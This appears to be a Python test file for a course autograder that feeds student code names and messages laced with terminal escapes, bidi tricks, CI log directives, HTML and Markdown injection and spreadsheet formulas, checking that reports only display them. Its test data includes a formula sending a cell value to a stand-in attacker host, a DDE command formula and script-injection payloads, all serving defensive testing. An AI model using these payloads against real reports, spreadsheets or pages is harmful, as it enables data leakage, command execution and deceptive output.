"""Attack 77: bidi, ANSI and control characters, HTML, Markdown, formulas in names and messages. They are only shown.

`dangers_in` names what acts on terminals, logs and readers; it was written without a look at how reports escape.
"""

import csv
import io
import json
from xml.etree.ElementTree import fromstring

import pytest

from course.report.sinks import csv_row, html_text, markdown_code
from tests.attacks.conftest import Attack
from tests.report.dangers import FRAGMENTS, dangers_in

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"10 of 10")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    '";=1+1',
    "\N{FULLWIDTH EQUALS SIGN}1+1",
]
TEXTS = [
    "\x1b[2J\x1b[H10 of 10 points\x1b]8;;http://evil.example\x1b\\",
    "\u202e\u2066stniop 01\u2069\u200b\U000e0041\u3164",
    "\n::error file=a::owned\n::add-mask::points\n##[error]x",
    "<script>alert(1)</script></pre>]]><![CDATA[ & <img src=x onerror=y>",
    "``` | [x](javascript:alert(1)) ![x](http://evil.example/y.png) @everybody",
    "".join(FRAGMENTS),
    *FORMULAS,
]
# The text as the name of a thread, of an exception, of a type and of a key, as a message, a value and as output.
EVERYWHERE = """
import sys, threading, warnings
TEXT = {text}
Error = type(TEXT.encode("utf-8", "replace").decode().replace("\\0", ""), (Exception,), {{}})
def fetch_quotes(symbols, fetch):
    print(TEXT); print(TEXT, file=sys.stderr); warnings.warn(TEXT)
    def ask(symbol):
        fetch(symbol)
        raise Error(TEXT)
    for symbol in symbols:
        thread = threading.Thread(target=ask, args=(symbol,), name=TEXT)
        thread.start(); thread.join()
    return {{TEXT: [TEXT, Error]}}
"""


@pytest.mark.parametrize("text", TEXTS)
def test_text_is_shown_and_does_nothing(attack: Attack, text: str) -> None:
    """On the terminal, in JSON and in JUnit; and it was really shown: the failure is about the value."""
    attacked = attack("t01", EVERYWHERE.format(text=ascii(text)))
    assert attacked.points == 0
    printed, _, rest = attacked.output.partition("<?xml")
    xml, end, document = rest.partition("</testsuites>")
    assert dangers_in(printed) == []
    assert [danger for danger in dangers_in(xml) if "command" not in danger] == []
    assert dangers_in(document) == []
    assert {element.tag for element in fromstring(f"<?xml{xml}{end}").iter()} <= {
        *("testsuites", "testsuite", "properties", "property", "testcase", "failure", "skipped")
    }
    assert json.loads(document)["points"] == 0
    failure = attacked.check("values_and_order").failure
    assert failure is not None
    assert "['object', 'type']" not in failure.got
    assert failure.got.startswith("[(")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_is_no_formula(formula: str) -> None:
    """There is no gradebook yet that could be graded into; this is what it will be written with."""
    (row,) = csv.reader(io.StringIO(csv_row([formula, 0])))
    assert row[0].lstrip("\t ")[0] not in "=+-@\N{FULLWIDTH EQUALS SIGN}"
    assert row[1] == "0"


@pytest.mark.parametrize("text", TEXTS)
def test_a_page_has_no_element_of_the_students(text: str) -> None:
    assert "<" not in html_text(text)
    assert [danger for danger in dangers_in(markdown_code(text)) if "command" not in danger] == []
